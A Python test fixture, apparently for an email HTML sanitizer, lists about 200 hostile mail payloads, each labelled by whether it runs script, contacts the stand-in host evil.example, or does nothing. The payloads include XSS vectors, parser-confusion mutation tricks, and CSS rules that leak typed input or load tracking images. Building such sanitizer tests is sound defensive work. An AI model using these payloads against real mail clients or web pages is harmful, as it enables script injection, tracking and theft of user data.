r"""Mails that want to run something, or to tell somebody that they were read: written for these tests.

`RUN` stands for a call that the test hears, `URL` and `HOST` for a place that writes down who asks; both know which
mail they belong to. `does` is what a mail achieves in a browser where nothing is in its way, and the test holds each to
it: a mail that does nothing there would prove nothing elsewhere. NOTHING is what only others fall for.
"""

from dataclasses import dataclass
from enum import StrEnum
from urllib.parse import quote

HOST = "evil.example"


class Does(StrEnum):
    RUNS = "runs"
    MUTATES = "runs when it is read anew"  # once somebody has read it and written it down again
    ASKS = "asks"  # for something from elsewhere
    NOTHING = "nothing"


RUNS, ASKS, NOTHING, MUTATES = Does.RUNS, Does.ASKS, Does.NOTHING, Does.MUTATES


@dataclass(frozen=True, slots=True)
class Hostile:
    number: int
    name: str
    does: Does
    html: str


def _entities(text: str, pattern: str = "&#{};") -> str:
    return "".join(pattern.format(ord(letter)) for letter in text)


_SVG = quote('<svg xmlns="http://www.w3.org/2000/svg" id="x"><script>RUN</script></svg>', safe="()")
_DEEP = 700
_WIDE = 20_000

_WRITTEN: list[tuple[str, Does, str]] = [
    # --- scripts as elements
    ("script", RUNS, "<p>Hi</p><script>RUN</script>"),
    ("script in capitals", RUNS, "<SCRIPT>RUN</SCRIPT>"),
    ("script in mixed case with white space", RUNS, "<ScRiPt\n\t>RUN</sCrIpT\n>"),
    ("script with an attribute that is no blank away", RUNS, '<script/x="1">RUN</script>'),
    ("script from elsewhere", ASKS, '<script src="URL.js"></script>'),
    ("script from elsewhere without a scheme", ASKS, '<script src="//HOST.js"></script>'),
    ("module from elsewhere", ASKS, '<script type="module">import "URL.js";</script>'),
    ("script from data", RUNS, '<script src="data:text/javascript,RUN"></script>'),
    ("script after a broken tag", RUNS, '<img """><script>RUN</script>">'),
    ("script behind two angle brackets", RUNS, "<<script>RUN//<</script>"),
    ("script never closed", NOTHING, "<script>RUN"),
    ("script nested in what a naive filter cuts out", RUNS, "<scr<script></script>ipt></script><script>RUN</script>"),
    ("script hidden in a comment for old programs", NOTHING, "<!--[if gte mso 9]><script>RUN</script><![endif]-->"),
    ("script behind a comment that ends early", RUNS, "<!--><script>RUN</script>-->"),
    ("script behind a comment that ends with a dash", RUNS, "<!--- --!><script>RUN</script>-->"),
    ("script behind a comment in a comment", RUNS, "<!-- <!-- --><script>RUN</script> -->"),
    ("script behind CDATA", RUNS, "<![CDATA[><script>RUN</script>]]>"),
    ("script behind a processing instruction", RUNS, "<?xml version='1.0'?><script>RUN</script>"),
    ("script behind a broken doctype", RUNS, "<!doctype html [<!ENTITY x '>'><script>RUN</script>"),
    ("script in an element that does not exist", RUNS, "<outlook-card><script>RUN</script></outlook-card>"),
    ("script in a table", RUNS, "<table><tr><script>RUN</script><td>x</table>"),
    ("script in a select", RUNS, "<select><option>a<script>RUN</script></select>"),
    ("script with null bytes", NOTHING, "<scr\0ipt>RUN</scr\0ipt>"),
    ("script behind a null byte", RUNS, "<p>\0</p><script>RUN</script>"),
    ("script in other letters", NOTHING, "<ſcript>RUN</ſcript>＜script＞RUN＜/script＞"),
    ("noscript that ends inside of an attribute", RUNS, '<noscript><p title="</noscript><img src=x onerror=RUN>">'),
    # --- handlers
    ("image that fails", RUNS, "<img src=x onerror=RUN>"),
    ("image that fails, with slashes for blanks", RUNS, '<img/src="x"/onerror=RUN>'),
    ("image that fails, with a form feed", RUNS, "<img\fsrc=x\fonerror=RUN>"),
    ("image that fails, quoted with entities", RUNS, '<img src="x" onerror="&#114;&#97;&#110;(NUMBER)">'),
    ("image that loads", RUNS, '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" onload="RUN">'),
    ("image never closed", RUNS, "<p>Hi<img src=x onerror=RUN //"),
    ("image with an apostrophe that ends nothing", RUNS, "<img src=x' onerror='RUN'>"),
    ("image called image", RUNS, "<image src=x onerror=RUN>"),
    ("body that loads", RUNS, "<body onload=RUN><p>Hi</p></body>"),
    ("second body that loads", RUNS, "<p>Hi</p><body onload=RUN>"),
    ("body that shows", RUNS, '<body onpageshow="RUN">'),
    ("html that is pointed at", NOTHING, '<html onmousemove="RUN">'),
    ("svg that loads", RUNS, "<svg onload=RUN>"),
    ("svg that loads, with a slash", RUNS, "<svg/onload=RUN>"),
    ("style that loads", RUNS, "<style onload=RUN></style>"),
    ("link that fails", RUNS, '<link rel="stylesheet" href="x:" onerror="RUN">'),
    ("details that open", RUNS, "<details open ontoggle=RUN><summary>x</summary></details>"),
    ("video whose source fails", RUNS, "<video><source src=x onerror=RUN></video>"),
    ("audio that fails", RUNS, "<audio src=x onerror=RUN>"),
    ("input that has the focus", RUNS, "<input autofocus onfocus=RUN>"),
    ("textarea that has the focus", NOTHING, "<textarea autofocus onfocus=RUN></textarea>"),
    ("div that has the focus by its id", NOTHING, '<div id="x" tabindex="1" onfocus="RUN">x</div>'),
    (
        "animation that starts",
        RUNS,
        '<style>@keyframes x{}</style><b style="animation:x 1s" onanimationstart="RUN">x</b>',
    ),
    ("transition of a link", RUNS, '<a href="#x" id="x" style="transition:1s" ontransitionend="RUN">x</a>'),
    ("marquee that starts", NOTHING, "<marquee onstart=RUN>x</marquee>"),
    ("object that fails", NOTHING, '<object data="x:" onerror="RUN"></object>'),
    ("link that is clicked", RUNS, '<a href="#" onclick="RUN">Click me</a>'),
    ("button that is clicked", RUNS, '<button onclick="RUN">Click me</button>'),
    ("paragraph that is clicked", RUNS, '<p onclick="RUN">Click me</p>'),
    (
        "content made visible by itself",
        RUNS,
        "<b oncontentvisibilityautostatechange=RUN style=content-visibility:auto>x",
    ),
    ("scroll that ends", NOTHING, "<div style='overflow:auto;height:9px' onscrollend=RUN><p>a<p>b<p id=z>c</div>"),
    ("iframe that loads", RUNS, '<iframe onload="RUN"></iframe>'),
    # --- addresses that run
    ("link to javascript", RUNS, '<a href="javascript:RUN">Click me</a>'),
    ("link to javascript in mixed case", RUNS, '<a href="jAvAsCrIpT:RUN">Click me</a>'),
    ("link to javascript behind blanks", RUNS, '<a href=" &#1; javascript:RUN">Click me</a>'),
    ("link to javascript broken by a tab", RUNS, '<a href="jav&Tab;ascript&colon;RUN">Click me</a>'),
    ("link to javascript broken by a line", RUNS, '<a href="java\nscript:RUN">Click me</a>'),
    ("link to javascript in entities", RUNS, f'<a href="{_entities("javascript:")}RUN">Click me</a>'),
    (
        "link to javascript in long entities",
        RUNS,
        f'<a href="{_entities("javascript:", "&#x0000{:x}")}RUN">Click me</a>',
    ),
    ("link to javascript with a comment like an address", RUNS, '<a href="javascript://x%0ARUN">Click me</a>'),
    ("link to vbscript", NOTHING, '<a href="vbscript:RUN">Click me</a>'),
    ("link to a document of data", RUNS, '<a href="data:text/html,<script>RUN</script>">Click me</a>'),
    (
        "area to javascript",
        RUNS,
        '<img usemap="#m" src="x"><map name="m"><area href="javascript:RUN" shape="default"></map>',
    ),
    ("link in svg to javascript", RUNS, '<svg><a href="javascript:RUN"><text y="9">Click me</text></a></svg>'),
    ("link in svg to javascript by xlink", RUNS, '<svg><a xlink:href="javascript:RUN"><text y="9">x</text></a></svg>'),
    ("link in math to javascript", NOTHING, '<math href="javascript:RUN">x</math>'),
    ("form to javascript", RUNS, '<form action="javascript:RUN"><button>Click me</button></form>'),
    ("button with its own action", RUNS, '<form><button formaction="javascript:RUN">Click me</button></form>'),
    ("input with its own action", RUNS, '<form><input type="submit" formaction="javascript:RUN"></form>'),
    ("iframe to javascript", RUNS, '<iframe src="javascript:parent.RUN"></iframe>'),
    ("embed to javascript", NOTHING, '<embed src="javascript:RUN">'),
    ("object to javascript", NOTHING, '<object data="javascript:RUN"></object>'),
    ("image to javascript", NOTHING, '<img src="javascript:RUN">'),
    ("background to javascript", NOTHING, '<table background="javascript:RUN"><tr><td>x</table>'),
    ("base to javascript", NOTHING, '<base href="javascript:RUN//"><a href="#">Click me</a>'),
    # --- documents in documents
    ("iframe with a document of its own", RUNS, '<iframe srcdoc="<script>RUN</script>"></iframe>'),
    ("iframe with a document in entities", RUNS, '<iframe srcdoc="&lt;img src=x onerror=RUN&gt;"></iframe>'),
    ("iframe from elsewhere", ASKS, '<iframe src="URL"></iframe>'),
    ("iframe of data", RUNS, '<iframe src="data:text/html,<script>RUN</script>"></iframe>'),
    ("iframe that undoes its sandbox", RUNS, '<iframe sandbox="allow-scripts" srcdoc="<script>RUN</script>"></iframe>'),
    ("frames", NOTHING, '<frameset><frame src="URL"></frameset>'),
    ("object from elsewhere", ASKS, '<object data="URL"></object>'),
    ("object of data", RUNS, '<object data="data:text/html,<script>RUN</script>"></object>'),
    ("embed from elsewhere", ASKS, '<embed src="URL">'),
    ("embed of data", RUNS, '<embed src="data:image/svg+xml,SVG">'),
    ("portal", NOTHING, '<portal src="URL"></portal>'),
    ("fenced frame", NOTHING, '<fencedframe src="URL"></fencedframe>'),
    ("template", NOTHING, "<template><script>RUN</script></template>"),
    (
        "template with a shadow of its own",
        RUNS,
        "<div><template shadowrootmode=open><img src=x onerror=RUN></template></div>",
    ),
    ("patched attribute of a slot", NOTHING, "<slot onslotchange=RUN>x</slot>"),
    # --- going away
    ("refresh to elsewhere", ASKS, '<meta http-equiv="refresh" content="0;url=URL">'),
    ("refresh to javascript", NOTHING, '<meta http-equiv="refresh" content="0;url=javascript:RUN">'),
    ("refresh to data", RUNS, '<meta http-equiv="refresh" content="0;url=data:text/html,<script>RUN</script>">'),
    ("refresh in the body, in entities", ASKS, '<p>x</p><meta http-equiv="&#114;efresh" content="0;url=URL">'),
    ("base of elsewhere", ASKS, '<base href="http://HOST/"><img src="x.gif">'),
    ("base with a target", NOTHING, '<base target="_top"><a href="URL">Your invoice</a>'),
    (
        "form that sends elsewhere",
        ASKS,
        '<form action="URL"><input name="password" value="x"><button>Log in</button></form>',
    ),
    ("form of another element", ASKS, '<form id="f" action="URL"></form><p>x</p><button form="f">Log in</button>'),
    ("form in a dialog", ASKS, '<dialog open><form action="URL" method="post"><button>Log in</button></form></dialog>'),
    ("link with a ping", ASKS, '<a href="#" ping="URL">Click me</a>'),
    ("link that keeps its opener", NOTHING, '<a href="URL" target="_blank" rel="opener">Your invoice</a>'),
    ("link into the page that shows it", NOTHING, '<a href="/app/log-out" target="_top">Your invoice</a>'),
    ("link with a download", NOTHING, '<a href="/app/" download="invoice.html">Your invoice</a>'),
    # --- styles
    ("style from elsewhere", ASKS, '<link rel="stylesheet" href="URL.css">'),
    ("style that imports", ASKS, '<style>@import "URL.css";</style>'),
    ("style that imports without quotes", ASKS, "<style>@import url(URL.css);</style>"),
    ("style with a background", ASKS, "<style>body{background:url(URL)}</style>"),
    ("style with a font", ASKS, "<style>@font-face{font-family:x;src:url(URL)}p{font-family:x}</style><p>x</p>"),
    ("style with a cursor", ASKS, "<style>p{cursor:url(URL),auto}</style><p>x</p>"),
    (
        "style that reads what is typed",
        ASKS,
        '<style>input[value^="a"]{background:url(URL)}</style><input value="abc">',
    ),
    ("style that reads the language", ASKS, "<style>:lang(en) p,p{background:image-set(url(URL) 1x)}</style><p>x</p>"),
    ("style with a mark before", ASKS, "<style>p::before{content:url(URL)}</style><p>x</p>"),
    ("style in another case, escaped", ASKS, r"<style>p{background:\75\72\6c(URL)}</style><p>x</p>"),
    ("style behind a comment", ASKS, "<style><!-- p{background:url(URL)} --></style><p>x</p>"),
    ("style that ends early", RUNS, "<style><img src='</style><img src=x onerror=RUN//'></style>"),
    ("style that covers the page", NOTHING, "<style>*{position:fixed;inset:0;z-index:9999}</style><p>x</p>"),
    ("attribute with a background", ASKS, '<div style="background:url(URL)">x</div>'),
    ("attribute with a background image", ASKS, '<div style="background-image:url(&quot;URL&quot;)">x</div>'),
    ("attribute with an escaped function", ASKS, r'<div style="background:\75 rl(URL)">x</div>'),
    ("attribute with a border image", ASKS, '<div style="border:9px solid;border-image:url(URL) 9">x</div>'),
    ("attribute with a mark of a list", ASKS, '<ul style="list-style-image:url(URL)"><li>x</ul>'),
    ("attribute with a mask", ASKS, '<div style="mask-image:url(URL)">x</div>'),
    ("attribute with a shape", ASKS, '<div style="float:left;shape-outside:url(URL)">x</div>'),
    ("attribute with a filter", NOTHING, '<div style="filter:url(URL#f)">x</div>'),
    ("attribute with a variable", ASKS, '<div style="--x:url(URL);background:var(--x)">x</div>'),
    ("attribute with a comment in a property", NOTHING, '<div style="back/**/ground:url(URL)">x</div>'),
    ("attribute with an expression", NOTHING, '<div style="width:expression(RUN)">x</div>'),
    ("attribute with a binding", NOTHING, '<div style="-moz-binding:url(URL#x);behavior:url(URL.htc)">x</div>'),
    (
        "attribute that covers the page",
        NOTHING,
        '<div style="position:fixed;inset:0;z-index:9;background:#fff">Log in</div>',
    ),
    # --- images and media from elsewhere
    ("image from elsewhere", ASKS, '<img src="URL.gif" width="1" height="1">'),
    ("image without a scheme", ASKS, '<img src="//HOST.gif">'),
    ("image in a link", ASKS, '<a href="https://x.example/"><img src="URL.gif" style="width:1px"></a>'),
    ("image in a quote", ASKS, '<blockquote type="cite"><table><tr><td><img src="URL.gif"></table></blockquote>'),
    ("image without a certificate", NOTHING, '<img src="https://HOST.gif">'),
    ("image with backslashes", ASKS, r'<img src="\\HOST.gif">'),
    ("image with a scheme and one slash", NOTHING, '<img src="http:/HOST.gif">'),
    ("image in mixed case behind blanks", ASKS, '<IMG SRC="\n\tHtTp://HOST.gif">'),
    ("image in entities", ASKS, '<img src="&#104;ttp&colon;&sol;&sol;HOST.gif">'),
    ("image of a set", ASKS, '<img srcset="URL.gif 1x">'),
    ("image of a picture", ASKS, '<picture><source srcset="URL.gif"><img src="data:,"></picture>'),
    ("image that is loaded late", ASKS, '<img loading="lazy" src="URL.gif">'),
    ("image with a name and a password", NOTHING, '<img src="http://user:secret@HOST.gif">'),
    ("image in a comment that is none", ASKS, '<!--[if !mso]><!--><img src="URL.gif"><!--<![endif]-->'),
    ("image of an input", ASKS, '<input type="image" src="URL.gif">'),
    ("background of the body", ASKS, '<body background="URL.gif"><p>Hi</p></body>'),
    ("background of a cell", ASKS, '<table><tr><td background="URL.gif">x</table>'),
    ("poster of a video", ASKS, '<video poster="URL.gif"></video>'),
    ("video", ASKS, '<video src="URL.mp4"></video>'),
    ("sound", ASKS, '<audio src="URL.mp3" preload="auto"></audio>'),
    ("subtitles", NOTHING, '<video><track default src="URL.vtt"></video>'),
    ("image in svg", ASKS, '<svg><image href="URL.gif" width="9" height="9"/></svg>'),
    ("image in svg by xlink", ASKS, '<svg><image xlink:href="URL.gif" width="9" height="9"/></svg>'),
    (
        "image in a filter of svg",
        ASKS,
        '<svg><filter id="f"><feImage href="URL.gif"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>',
    ),
    ("shape of svg from elsewhere", NOTHING, '<svg><use href="URL.svg#x"/></svg>'),
    ("shape of svg of data", NOTHING, '<svg><use href="data:image/svg+xml,SVG#x"/></svg>'),
    ("image of data that is svg", NOTHING, '<img src="data:image/svg+xml,SVG">'),
    ("preload", ASKS, '<link rel="preload" as="image" href="URL.gif">'),
    ("prefetch", ASKS, '<link rel="prefetch" href="URL">'),
    ("preconnect", NOTHING, '<link rel="preconnect" href="URL">'),
    ("look-up of a name", NOTHING, '<link rel="dns-prefetch" href="URL">'),
    ("icon", NOTHING, '<link rel="icon" href="URL.ico">'),
    ("manifest", NOTHING, '<link rel="manifest" href="URL.json">'),
    # --- svg and math that change what the parser does
    ("script in svg", RUNS, "<svg><script>RUN</script></svg>"),
    ("script in svg, in entities", RUNS, "<svg><script>&#114;an(NUMBER)</script></svg>"),
    ("script in svg from elsewhere", ASKS, '<svg><script href="URL.js"></script></svg>'),
    ("foreign object in svg", RUNS, "<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>"),
    ("animation in svg that begins", RUNS, "<svg><animate onbegin=RUN attributeName=x dur=1s>"),
    (
        "animation in svg that sets a link",
        RUNS,
        '<svg><a><animate attributeName="href" values="javascript:RUN"/><text y="9">x</text></a></svg>',
    ),
    ("set in svg that begins", RUNS, "<svg><set onbegin=RUN attributeName=x to=y></svg>"),
    ("style in svg", RUNS, "<svg></p><style><a title='</style><img src=x onerror=RUN>'>"),
    (
        "style in math",
        RUNS,
        "<math><mtext></p><style><!--</style><img title='--&gt;&lt;img src=x onerror=RUN&gt;' src=x onerror=RUN>",
    ),
    (
        "mglyph and a style in a table",
        NOTHING,
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">',
    ),
    (
        "mglyph and a style, closed later",
        MUTATES,
        "<math><mtext><table><mglyph><style><math><img src=x onerror=RUN></style>",
    ),
    (
        "form in math in a form",
        MUTATES,
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>",
    ),
    (
        "annotation in math",
        RUNS,
        '<math><annotation-xml encoding="text/html"><style></style><img src=x onerror=RUN></annotation-xml></math>',
    ),
    ("title in svg", RUNS, "<svg><title><style><!--</style><img src=x onerror=RUN>--></title></svg>"),
    ("desc in svg in a paragraph", RUNS, "<svg><desc><noembed></noembed><img src=x onerror=RUN></desc></svg>"),
    ("font that leaves svg", RUNS, "<svg><font color=red><img src=x onerror=RUN></font></svg>"),
    ("xmp", RUNS, "<xmp><p title='</xmp><img src=x onerror=RUN>'></xmp>"),
    ("noembed", RUNS, "<noembed><p title='</noembed><img src=x onerror=RUN>'></noembed>"),
    ("noframes", RUNS, "<noframes><p title='</noframes><img src=x onerror=RUN>'></noframes>"),
    ("plaintext", NOTHING, "<plaintext><img src=x onerror=RUN>"),
    ("textarea that ends early", RUNS, "<textarea><p title='</textarea><img src=x onerror=RUN>'></textarea>"),
    ("title that ends early", RUNS, "<title><p title='</title><img src=x onerror=RUN>'></title>"),
    ("attribute with a backtick", RUNS, "<img src=`x` onerror=RUN>"),
    (
        "attribute with an angle bracket",
        RUNS,
        "<p title='<img src=x onerror=RUN>'></p><img title='a>b' src=x onerror=RUN>",
    ),
    (
        "attribute given twice",
        RUNS,
        '<a href="https://x.example" href="javascript:RUN">x</a><img src=x onerror=RUN onerror="">',
    ),
    ("attribute with a name that ends a tag", RUNS, '<p x">"><img src=x onerror=RUN>'),
    # --- what clobbers and confuses
    (
        "names that clobber",
        RUNS,
        '<form name="body"><input name="attributes"></form><img name="cookie" src=x onerror=RUN>',
    ),
    ("ids of our own page", NOTHING, '<a id="main" name="main">x</a><form id="form_token" name="forms"></form>'),
    (
        "charset of another kind",
        RUNS,
        '<meta charset="utf-7"><p>+ADw-script+AD4-RUN+ADw-/script+AD4-</p><img src=x onerror=RUN>',
    ),
    ("charset of japanese mail", RUNS, "<meta charset=iso-2022-jp><p>\x1b$B</p><img src=x onerror=RUN>\x1b(B"),
    ("half a character", RUNS, "<p>\ud83d</p><img src=x onerror=RUN>"),
    ("byte order mark", RUNS, "\ufeff<script>RUN</script>"),
    ("right to left", RUNS, "<p>\u202e</p><img src=x onerror=RUN>"),
    (
        "policy of its own",
        RUNS,
        '<meta http-equiv="Content-Security-Policy" content="script-src * \'unsafe-inline\'"><script>RUN</script>',
    ),
    ("import map", NOTHING, '<script type="importmap">{"imports":{"x":"URL"}}</script>'),
    ("speculation rules", NOTHING, '<script type="speculationrules">{"prefetch":[{"urls":["URL"]}]}</script>'),
    ("editable text that pastes", NOTHING, '<div contenteditable onpaste="RUN">x</div>'),
    ("popover", RUNS, '<button popovertarget="p">x</button><div popover id="p" onbeforetoggle="RUN">x</div>'),
    ("isindex", NOTHING, '<isindex type="image" src="x" onerror="RUN">'),
    (
        "xml data island",
        NOTHING,
        '<xml id="x"><a><b onerror="RUN">x</b></a></xml><span datasrc="#x" datafld="b"></span>',
    ),
    ("server side include", NOTHING, '<!--#exec cmd="RUN"--><!--#include virtual="/app/"-->'),
    ("template of ours", NOTHING, "{{ 7 * 7 }}{% raw %}{{ request }}{% endraw %}${RUN}<%= RUN %>"),
    # --- size and nesting
    ("deep elements with a script inside", RUNS, "<div>" * _DEEP + "<script>RUN</script>"),
    ("deep tables", RUNS, "<table><tr><td>" * 300 + "<img src=x onerror=RUN>"),
    ("deep quotes", RUNS, "<blockquote>" * 400 + "<img src=x onerror=RUN>" + "</blockquote>" * 400),
    ("deep formats that are opened anew", RUNS, "<b><i><u>" * 100 + "<p>" * 100 + "<img src=x onerror=RUN>"),
    ("many elements", RUNS, "<p>x" * _WIDE + "<img src=x onerror=RUN>"),
    ("one long attribute", RUNS, f'<p title="{"x" * 200_000}">x</p><img src=x onerror=RUN>'),
    ("many attributes", RUNS, f"<p {' '.join(f'a{number}=1' for number in range(5_000))}>x</p><img src=x onerror=RUN>"),
    ("many comments", RUNS, "<!-->-->" * 10_000 + "<img src=x onerror=RUN>"),
    ("unclosed everything", RUNS, "<table><tr><td><ul><li><a><b><select><option><svg><math><img src=x onerror=RUN>"),
]


def _filled(number: int, html: str) -> str:
    html = html.replace("SVG", _SVG).replace("RUN", f"ran({number})").replace("NUMBER", str(number))
    return html.replace("URL", f"http://{HOST}/{number}").replace("HOST", f"{HOST}/{number}")


MAILS = [
    Hostile(number, name, does, _filled(number, html)) for number, (name, does, html) in enumerate(_WRITTEN, start=1)
]
